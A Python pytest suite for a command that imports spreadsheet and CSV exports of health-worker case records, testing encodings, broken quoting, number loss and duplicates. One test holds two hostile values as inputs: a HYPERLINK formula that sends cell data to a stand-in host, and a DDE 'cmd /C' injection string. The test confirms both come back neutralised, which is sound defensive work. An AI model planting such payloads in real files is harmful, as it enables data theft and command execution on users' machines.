"""``doorstep import`` over the files that spreadsheets and exports really make."""

from __future__ import annotations

import shutil
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl.reader.excel import load_workbook
from openpyxl.workbook.workbook import Workbook

from doorstep.server.accounts.models import Worker
from doorstep.server.interop import tables
from doorstep.server.records.models import Quarantined, Record, Submission

from .conftest import Cast, Phone
from .forms import new_id, register
from .test_import import csv_file, fails, rows_of, run, write

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("cast")]

HEX = "0a1b2c3d4e5f40718293a4b5c6d7e8f9"


# what another system's export looks like


def test_an_export_of_commcare_is_taken_as_it_is(cast: Cast, tmp_path: Path) -> None:
    text = (
        "number,caseid,case_name,opened_date,owner_id,owner_name,formid,closed,"
        "last_modified_date,lmp\n"
        f"1,{HEX},Amina,2026-10-01 09:15:00,{new_id()},asha,f1,False,2026-11-01,2026-09-01 00:00\n"
    )
    out = run(str(csv_file(tmp_path, text)))
    assert "1 made, 0 changed, 0 unchanged, 0 not taken." in out
    assert "Warning: Column 'formid' is left out" in out
    found = Record.objects.get()
    assert (found.label, found.area, found.known) == ("Amina", cast.kianda, date(2026, 10, 1))
    assert found.properties["lmp"] == "2026-09-01"


def test_an_id_is_the_same_with_dashes_and_without(tmp_path: Path) -> None:
    dashed = f"{HEX[:8]}-{HEX[8:12]}-{HEX[12:16]}-{HEX[16:20]}-{HEX[20:]}".upper()
    run(str(csv_file(tmp_path, f"case_id,name,owner_name\n{HEX},Amina,asha\n")))
    both = f"case_id,name,owner_name\n{dashed},Amina W.,asha\n{HEX},Amina,asha\n"
    out = run(str(csv_file(tmp_path, both)))
    assert "Row 3, case_id:" in out
    assert "0 made, 1 changed, 0 unchanged, 1 not taken." in out
    assert Record.objects.get().label == "Amina W."


def test_an_owner_that_nobody_knows_by_id_or_name(tmp_path: Path) -> None:
    text = f"name,owner_id,owner_name\nAmina,{HEX},nobody\n"
    out = run(str(csv_file(tmp_path, text)))
    assert "Row 2, owner_id:" in out
    assert "Row 2, owner_name: 'nobody'" in out


def test_two_ids_of_two_records_are_a_mistake(asha: Phone, today: date, tmp_path: Path) -> None:
    record = new_id()
    asha.take(register(today, record=record))
    run(str(csv_file(tmp_path, "external_id,name,owner_name\nA-1,Zuri,asha\n")))
    out = run(str(csv_file(tmp_path, f"case_id,external_id,village\n{record},A-1,Kianda\n")))
    assert "Row 2, external_id: 'A-1' is the number of another record than case_id." in out


# cells


def test_excel_cells_that_are_not_what_was_typed(tmp_path: Path) -> None:
    file = write(
        tmp_path,
        ("external_id", "name", "owner_name", "lmp", "phone", "age"),
        ("E-1", "Amina", "asha", datetime(2026, 9, 1, 14, 30), 254700123456.0, "24"),  # noqa: DTZ001
        ("E-2", "Zuri", "asha", 46266, "0700 123 456", "024"),
        (1.2345678901234568e17, "Baraka", "asha", None, None, None),
        ("E-4", "#N/A", "asha", None, None, None),
        ("E-5", "Neema\u00a0Otieno\u200b ", "\u00a0asha", None, None, None),
        ("E-6", "x" * 20_000, "asha", None, None, None),
    )
    out = run(str(file))
    assert "2 made, 0 changed, 0 unchanged, 4 not taken." in out
    assert "Row 3, lmp: '46266' is not a date such as 2026-11-22: format the column" in out
    assert "Row 4, external_id: '1.234568E+17' has lost its last digits" in out
    assert "Row 5, name: The cell shows the error #N/A" in out
    assert "Row 7, name: The cell holds 20,000 characters; 10,000 are the most." in out
    amina = Record.objects.get(external_id="E-1")
    assert (amina.properties["lmp"], amina.properties["phone"]) == ("2026-09-01", "254700123456")
    assert Record.objects.get(external_id="E-5").label == "Neema Otieno"


def test_a_number_shortened_in_csv_is_not_taken(tmp_path: Path) -> None:
    text = "name;owner_name;phone\nAmina;asha;2,547E+11\n"
    assert "Row 2, phone: '2,547E+11' has lost its last digits" in run(
        str(csv_file(tmp_path, text))
    )


# files


def test_a_title_above_the_heading(tmp_path: Path) -> None:
    file = write(tmp_path, ("Pregnancies of November",), (), ("name", "owner_name"), ("A", "asha"))
    assert "The heading seems to be in row 3: delete all above it." in fails(str(file))


def test_a_heading_of_which_nothing_is_known(tmp_path: Path) -> None:
    message = fails(str(csv_file(tmp_path, "nom,prenom\nA,B\n")))
    assert "names no column that there is. There are: case_id, external_id, name" in message


def test_a_heading_without_rows_says_so(tmp_path: Path) -> None:
    out = run(str(csv_file(tmp_path, "name,owner_name\n,,\n")))
    assert "Warning: The file has a heading and no rows." in out


def test_other_sheets_are_not_passed_over_in_silence(tmp_path: Path) -> None:
    book = Workbook()
    for title, name in (("north", "Amina"), ("south", "Zuri")):
        sheet = book.create_sheet(title)
        sheet.append(["name", "owner_name"])
        sheet.append([name, "asha"])
    book.save(tmp_path / "two.xlsx")
    out = run(str(tmp_path / "two.xlsx"))
    assert "Warning: Only the sheet 'north' was read, not 'south'" in out
    assert Record.objects.get().label == "Amina"


def test_a_file_that_lies_about_its_size_is_read_whole(tmp_path: Path) -> None:
    file = write(tmp_path, ("name", "owner_name"), ("Amina", "asha"))
    with zipfile.ZipFile(file) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    assert b'ref="A1:B2"' in parts[sheet]
    parts[sheet] = parts[sheet].replace(b'ref="A1:B2"', b'ref="A1"')
    with zipfile.ZipFile(file, "w") as book:
        for name, content in parts.items():
            book.writestr(name, content)
    assert "1 made" in run(str(file))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_encodings_and_ends_of_lines(tmp_path: Path, encoding: str, end: str) -> None:
    rows = ("name;owner_name;village", 'Amélie;asha;"Kianda', 'B"', "Zuri;asha;", "")
    assert "2 made" in run(str(csv_file(tmp_path, end.join(rows), encoding)))
    assert Record.objects.filter(label="Amélie").exists()


def test_a_quote_that_is_never_closed_loses_no_rows(tmp_path: Path) -> None:
    file = csv_file(tmp_path, 'name,owner_name\nZuri,asha\n"Amina,asha\nNeema,asha\n')
    assert 'Row 3 opens a quote (") that is never closed' in fails(str(file))
    assert not Record.objects.exists()


def test_rows_swallowed_by_a_quote_are_not_taken(tmp_path: Path) -> None:
    text = 'name,owner_name,village\nZuri,asha,"Kianda\nAmina,asha,Laini\nNeema,asha,"Soweto\n'
    out = run(str(csv_file(tmp_path, text)))
    assert "Row 2, village: The cell holds whole rows" in out
    assert not Record.objects.exists()


def test_excel_says_what_separates_the_cells(tmp_path: Path) -> None:
    assert "1 made" in run(str(csv_file(tmp_path, "sep=;\nname;owner_name\nAmina, W.;asha\n")))
    assert Record.objects.get().label == "Amina, W."


def test_a_workbook_with_the_wrong_ending(tmp_path: Path) -> None:
    file = write(tmp_path, ("name", "owner_name"), ("Amina", "asha"))
    shutil.copy(file, tmp_path / "cases.csv")
    assert "give it the ending .xlsx" in fails(str(tmp_path / "cases.csv"))


# what comes back


EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Amina")'


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formulas_come_back_harmless_and_whole(tmp_path: Path, suffix: str) -> None:
    file = tmp_path / f"cases{suffix}"
    rows = [
        ["F-1", EVIL, "nobody", "+254 700 123456", "---"],
        ["F-2", "-2+3+cmd|' /C calc'!A0", *"xyz"],
    ]
    heading = ["external_id", "name", "owner_name", "phone", "village"]
    if suffix == ".csv":
        import csv

        with file.open("w", newline="") as handle:
            csv.writer(handle).writerows([heading, *rows])
    else:
        tables.write(file, heading, rows, ",")
    run(str(file))
    rejected = tmp_path / f"cases.rejected{suffix}"
    if suffix == ".csv":
        found = rows_of(rejected)[1:]
        assert [row[1][:2] for row in found] == ["'=", "'-"]
        assert found[0][3:5] == ["+254 700 123456", "---"]
    else:
        cells = list(load_workbook(rejected).worksheets[0].iter_rows(min_row=2))
        assert {cell.data_type for row in cells for cell in row} == {"s"}
    assert [list(line.cells[:5]) for line in tables.read(rejected).lines] == rows


def test_control_characters_in_a_workbook_do_not_stop_the_rejects(tmp_path: Path) -> None:
    file = write(tmp_path, ("name", "owner_name"), ("Ami_x0007_na", "asha"))
    tables.write(tmp_path / "back.xlsx", ["name"], [["Ami\x07na"]], ",")
    assert tables.read(tmp_path / "back.xlsx").headers == ["name"]
    assert "made" in run(str(file))


def test_rejects_that_somebody_mends_are_not_written_over(tmp_path: Path) -> None:
    file = csv_file(tmp_path, "name,owner_name\nAmina,nobody\n")
    run(str(file))
    mended = tmp_path / "cases.rejected.csv"
    before = mended.read_bytes()
    assert "cases.rejected-2.csv" in run(str(file))
    assert "cases.rejected-3.csv" in run(str(mended))
    assert mended.read_bytes() == before


# the same again


def test_rows_without_an_id_are_not_doubled(tmp_path: Path) -> None:
    file = csv_file(tmp_path, "name,owner_name,age\nAmina,asha,24\nZuri,asha,30\n")
    assert "2 made" in run(str(file))
    Record.objects.filter(label="Zuri").update(label="Zuri Otieno")
    assert "0 made, 0 changed, 2 unchanged" in run(str(file))
    assert Record.objects.filter(label="Zuri Otieno").exists()


def test_a_row_that_says_the_same_as_another(tmp_path: Path) -> None:
    out = run(str(csv_file(tmp_path, "name,owner_name\nAmina,asha\nAmina,asha\n")))
    assert "Row 3, The row says the same as row 2" in out
    assert "1 made, 0 changed, 0 unchanged, 1 not taken." in out


def test_a_dry_run_says_what_the_server_would(tmp_path: Path) -> None:
    text = "name,owner_name,age\nAmina,asha,24\nZuri,asha,999999999999999999999\n"
    file = csv_file(tmp_path, text)
    dry = run(str(file), "--dry-run").splitlines()
    assert not Record.objects.exists()
    assert not Submission.objects.exists()
    assert not Worker.objects.filter(login="import").exists()
    wet = run(str(file)).splitlines()
    assert dry[:-1] == wet[:-1]
    assert not Quarantined.objects.exists()
